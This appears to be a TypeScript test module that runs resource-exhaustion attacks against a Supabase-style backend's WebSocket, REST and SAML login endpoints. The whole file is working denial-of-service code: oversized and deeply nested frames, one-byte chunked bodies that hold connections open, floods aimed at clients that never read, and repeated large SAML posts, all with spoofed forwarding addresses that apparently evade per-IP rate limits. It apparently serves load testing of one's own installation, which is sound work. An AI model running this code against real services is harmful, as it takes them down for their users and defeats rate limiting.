/** Attacks on the connections themselves: huge frames, bodies that do not arrive, and answers that nobody reads. */

import { request } from "node:http";
import { WebSocket } from "ws";
import { sleep } from "../installation/tools.ts";

const MB = 1024 * 1024;
/** The number of connections of one attack. */
const CONNECTIONS = 60;

/** Texts of one frame just below the limit: many values, deep ones, long names, one long text. */
const FRAMES = [
  `[null,"1","realtime:x","presence",[${"{},".repeat(5 * MB)}{}]]`,
  `[null,"1","realtime:x","presence",${"[".repeat(7 * MB)}${"]".repeat(7 * MB)}]`,
  `["1","1","realtime:canvas-room","broadcast",{"type":"broadcast","event":"e","payload":[${"[],".repeat(5 * MB)}[]]}]`,
  `[null,"1","realtime:x","phx_join",{"a":"${"\\u0000".repeat(2 * MB)}"}]`,
  `{"topic":"realtime:x","event":"presence","ref":"1","payload":{${'"a":{},'.repeat(2 * MB)}"b":1}}`,
];

/** A body of many values. */
const VALUES = `[${"{},".repeat(5 * MB)}{}]`;

/** Sends one frame in each connection, and opens the next one when it is closed, at the latest after 2 s. */
async function sendFrames(address: string, at: number) {
  for (let count = at; ; count++) {
    const socket = new WebSocket(address, {
      headers: { "x-forwarded-for": `203.0.113.${at % 250}` },
    });
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.on("error", () => {});
    socket.once("open", () => socket.send(FRAMES[count % FRAMES.length] ?? ""));
    await Promise.race([closed, sleep(2_000)]);
    socket.terminate();
  }
}

/** Sends bodies of which only one byte arrives. */
async function hold(url: string, key: string, at: number) {
  for (;;) {
    const sent = request(url, {
      method: "PATCH",
      agent: false,
      headers: {
        "content-type": "application/json",
        apikey: key,
        "transfer-encoding": "chunked",
        "x-forwarded-for": `203.0.113.${at % 16}`,
      },
    });
    const closed = new Promise((resolve) => sent.once("close", resolve));
    sent.on("error", () => {});
    sent.write("{");
    await closed;
    await sleep(20);
  }
}

/** Returns the topic of a client that never reads. */
const deafTopic = (at: number) => `realtime:deaf-${at}`;

/** Opens a socket again and again. */
async function keepOpen(address: string, use: (socket: WebSocket) => Promise<unknown> | void) {
  for (;;) {
    const socket = new WebSocket(address, { headers: { "x-forwarded-for": "203.0.113.1" } });
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.on("error", () => {});
    socket.once("open", () => void use(socket));
    await closed;
    await sleep(100);
  }
}

/** Joins the board and a topic of its own, and reads nothing that arrives. */
const joinDeaf = (address: string, at: number) =>
  keepOpen(address, (socket) => {
    for (const topic of ["realtime:canvas-room", deafTopic(at)])
      socket.send(JSON.stringify(["1", "1", topic, "phx_join", {}]));
    socket.pause();
  });

/** Sends drawings of 1 MB to clients that never read, as fast as the server accepts them. */
const fillDeaf = (address: string) =>
  keepOpen(address, async (socket) => {
    const isOpen = () => socket.readyState === WebSocket.OPEN;
    for (let at = 0; at < CONNECTIONS; at++)
      socket.send(JSON.stringify(["1", "1", deafTopic(at), "phx_join", {}]));
    const drawing = { clientId: "hostile00000", json: { objects: ["x".repeat(MB)] } };
    const payload = JSON.stringify({ type: "broadcast", event: "canvas-update", payload: drawing });
    for (let count = 0; isOpen(); count++) {
      socket.send(`["1","2","${deafTopic(count % CONNECTIONS)}","broadcast",${payload}]`);
      while (isOpen() && socket.bufferedAmount > 0) await sleep(1);
      // This is the number that one connection may send in a second.
      await sleep(1000 / 15);
    }
  });

/** Begins so many together, each with its number. */
const many = (one: (at: number) => Promise<void>, count = CONNECTIONS) =>
  Promise.all(Array.from({ length: count }, (_, at) => one(at)));

/** Returns the attacks on connections by name. */
export function connectionAttacksOn(url: string, key: string, address: string) {
  const message = JSON.stringify({
    messages: [{ topic: "canvas-room", event: "note", payload: { text: "x".repeat(100_000) } }],
  });
  const saml = new URLSearchParams({
    SAMLResponse: Buffer.from(`<a>${"<a/>".repeat(30_000)}</a>`).toString("base64"),
  }).toString();
  const post = async (path: string, type: string, body: string) => {
    for (;;)
      await fetch(url + path, {
        method: "POST",
        headers: { "content-type": type, apikey: key, "x-forwarded-for": "203.0.113.9" },
        body,
      })
        .then((answer) => answer.arrayBuffer())
        .catch(() => sleep(5));
  };
  const form = "application/x-www-form-urlencoded";
  return {
    "frames of 16 MB": () => many((at) => sendFrames(address, at), 4),
    "bodies of 16 MB over HTTP": () =>
      many(
        (at) =>
          at % 2 === 0
            ? post("/realtime/v1/api/broadcast/x/events/e", "application/json", VALUES)
            : post("/realtime/v1/api/broadcast", "application/json", `{"messages":${VALUES}}`),
        4,
      ),
    "bodies that do not arrive": () =>
      many((at) => hold(`${url}/rest/v1/canvas_state?version=lt.0`, key, at)),
    "clients that never read": () =>
      Promise.all([
        many((at) => joinDeaf(address, at)),
        many(() => fillDeaf(address), 4),
        many(() => post("/realtime/v1/api/broadcast", "application/json", message), 4),
      ]),
    "SAML posts": () => many(() => post("/auth/v1/sso/saml/acs", form, saml), 10),
  };
}
